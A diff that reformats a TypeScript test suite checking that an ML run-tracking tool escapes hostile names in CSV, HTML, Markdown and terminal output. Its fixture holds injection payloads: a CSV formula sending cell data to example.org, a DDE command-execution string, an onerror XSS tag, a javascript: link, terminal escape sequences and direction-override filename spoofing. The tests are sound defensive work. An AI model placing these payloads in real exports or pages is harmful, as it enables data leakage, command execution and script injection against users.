@@ -16,30 +16,72 @@ import { csvOfColumns } from '../../renderer/charts/csv'
 
 /** What somebody else may have written where a name or a number belongs. */
 const hostile: Readonly<Record<string, string>> = {
-  'a formula': '=HYPERLINK("http://example.org/?"&A1,"x")', 'a formula after a sign': '+cmd|\' /C calc\'!A0', 'a formula after a minus': '-2+3+cmd|x', 'an old formula': '@SUM(A1)', 'a formula after a space': ' =1+1',
-  'a colour': 'a\u001b[31mred', 'a title': 'b\u001b]0;owned\u0007', 'an 8-bit control': 'c\u009b31m', 'a rewritten line': 'd\rover', 'a backspace': 'e\u0008\u0008f',
-  'turned-around text': 'g\u202Egnp.exe', 'an isolate': 'h\u2066x\u2069', 'a mark of direction': 'i\u200f\u061cj', 'a hidden space': 'k\u200bl\u2060m\ufeff', 'a line separator': 'n\u2028o',
-  'a forged line': 'p\n[2030-01-01 00:00:00.000] [error] q', 'markup': '<img src=x onerror=alert(1)>"\'&', 'a link': '[x](javascript:alert(1)) ![y](http://example.org) `z` *q* | <b>', 'a prototype': '__proto__',
+  'a formula': '=HYPERLINK("http://example.org/?"&A1,"x")',
+  'a formula after a sign': "+cmd|' /C calc'!A0",
+  'a formula after a minus': '-2+3+cmd|x',
+  'an old formula': '@SUM(A1)',
+  'a formula after a space': ' =1+1',
+  'a colour': 'a\u001b[31mred',
+  'a title': 'b\u001b]0;owned\u0007',
+  'an 8-bit control': 'c\u009b31m',
+  'a rewritten line': 'd\rover',
+  'a backspace': 'e\u0008\u0008f',
+  'turned-around text': 'g\u202Egnp.exe',
+  'an isolate': 'h\u2066x\u2069',
+  'a mark of direction': 'i\u200f\u061cj',
+  'a hidden space': 'k\u200bl\u2060m\ufeff',
+  'a line separator': 'n\u2028o',
+  'a forged line': 'p\n[2030-01-01 00:00:00.000] [error] q',
+  markup: '<img src=x onerror=alert(1)>"\'&',
+  'a link': '[x](javascript:alert(1)) ![y](http://example.org) `z` *q* | <b>',
+  'a prototype': '__proto__',
 }
 const strings = Object.entries(hostile)
 
 const unseen = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff]/
 
 const at = '2030-01-02T03:04:05.678Z'
-const runWith = (text: string): Run => ({ ...newRun('0mtb2h3k4l5', at, RunConfig.parse({}), { type: 'weights', file: text, sha256: '' }), name: text, notes: text, tags: [text], message: text, status: 'failed', log: [{ at, update: 1, message: text }] })
+const runWith = (text: string): Run => ({
+  ...newRun('0mtb2h3k4l5', at, RunConfig.parse({}), { type: 'weights', file: text, sha256: '' }),
+  name: text,
+  notes: text,
+  tags: [text],
+  message: text,
+  status: 'failed',
+  log: [{ at, update: 1, message: text }],
+})
 
-function shownBy(use: (terminal: ReturnType<typeof createTerminal>) => void): { readonly out: string; readonly error: string } {
+function shownBy(use: (terminal: ReturnType<typeof createTerminal>) => void): {
+  readonly out: string
+  readonly error: string
+} {
   let [out, error] = ['', '']
-  use(createTerminal(
-    { write: (bytes: string | Uint8Array) => { out += String(bytes); return true } } as never,
-    { write: (bytes: string | Uint8Array) => { error += String(bytes); return true }, isTTY: false, columns: 80 } as never,
-  ))
+  use(
+    createTerminal(
+      {
+        write: (bytes: string | Uint8Array) => {
+          out += String(bytes)
+          return true
+        },
+      } as never,
+      {
+        write: (bytes: string | Uint8Array) => {
+          error += String(bytes)
+          return true
+        },
+        isTTY: false,
+        columns: 80,
+      } as never,
+    ),
+  )
   return { out, error }
 }
 
 /** The cells of a CSV file, as a reader that follows RFC 4180 sees them. */
 const cellsOf = (csv: string): readonly string[] =>
-  [...csv.matchAll(/"((?:[^"]|"")*)"(?:,|\r?\n|$)|([^",\r\n]*)(?:,|\r?\n|$)/g)].map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '')
+  [...csv.matchAll(/"((?:[^"]|"")*)"(?:,|\r?\n|$)|([^",\r\n]*)(?:,|\r?\n|$)/g)].map(
+    ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '',
+  )
 const isFormula = (cell: string): boolean => /^\s*[=+\-@]|^[\t\r\n]/.test(cell) && !Number.isFinite(Number(cell))
 
 describe.each(strings)('%s', (_, text) => {
@@ -65,22 +107,39 @@ describe.each(strings)('%s', (_, text) => {
     expect(isFormula(cellsOf(`${csvCell(text)}\n`)[0] ?? '')).toBe(false)
     const columns = cellsOf(csvOfColumns(Object.fromEntries([[text, [text, 1]]])))
     expect(columns.filter(isFormula)).toEqual([])
-    const points: Points = { ...noPoints(), ...Object.fromEntries(Object.keys(noPoints()).map((column) => [column, [text]])) }
+    const points: Points = {
+      ...noPoints(),
+      ...Object.fromEntries(Object.keys(noPoints()).map((column) => [column, [text]])),
+    }
     expect(cellsOf(traceCsv(points)).filter(isFormula)).toEqual([])
     const { epochs: _epochs, ...rest } = runWith(text)
-    const epoch = { epoch: text, moment: {}, train: {}, validation: null, learningRate: text, batchSize: text, seconds: text, distance: text }
+    const epoch = {
+      epoch: text,
+      moment: {},
+      train: {},
+      validation: null,
+      learningRate: text,
+      batchSize: text,
+      seconds: text,
+      distance: text,
+    }
     expect(cellsOf(epochsCsv({ ...rest, epochs: [epoch] } as never)).filter(isFormula)).toEqual([])
   })
 
   it('is text in HTML and SVG', () => {
     expect(escaped(text)).not.toMatch(/[<>"']|[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/)
-    const html = reportHtml([{ traced: { run: runWith(text), trace: noPoints() }, label: text }], { version: '0', at: new Date(at) })
+    const html = reportHtml([{ traced: { run: runWith(text), trace: noPoints() }, label: text }], {
+      version: '0',
+      at: new Date(at),
+    })
     expect(html).not.toMatch(/<img|<a /i)
     expect(html).not.toMatch(unseen)
   })
 
   it('is one cell of a Markdown table, without a link, an image or markup', () => {
-    const [, , row = ''] = markdownTable({ names: ['run', 'batch#'], rows: [[titleOf(runWith(text)), '1']] }).split('\n')
+    const [, , row = ''] = markdownTable({ names: ['run', 'batch#'], rows: [[titleOf(runWith(text)), '1']] }).split(
+      '\n',
+    )
     expect(row.replace(/\\./g, '')).toMatch(/^\| [^|<>[\]`*]* \| 1 \|$/)
   })
 
@@ -104,6 +163,16 @@ describe.each(strings)('%s', (_, text) => {
 
 describe('numbers', () => {
   it('stay numbers in CSV, with their sign', () => {
-    expect([-1.5, 0, 1e-7, -3e21, '-1.5', '+2', NaN, null, undefined].map(csvCell)).toEqual(['-1.5', '0', '1e-7', '-3e+21', '-1.5', '+2', '', '', ''])
+    expect([-1.5, 0, 1e-7, -3e21, '-1.5', '+2', NaN, null, undefined].map(csvCell)).toEqual([
+      '-1.5',
+      '0',
+      '1e-7',
+      '-3e+21',
+      '-1.5',
+      '+2',
+      '',
+      '',
+      '',
+    ])
   })
 })
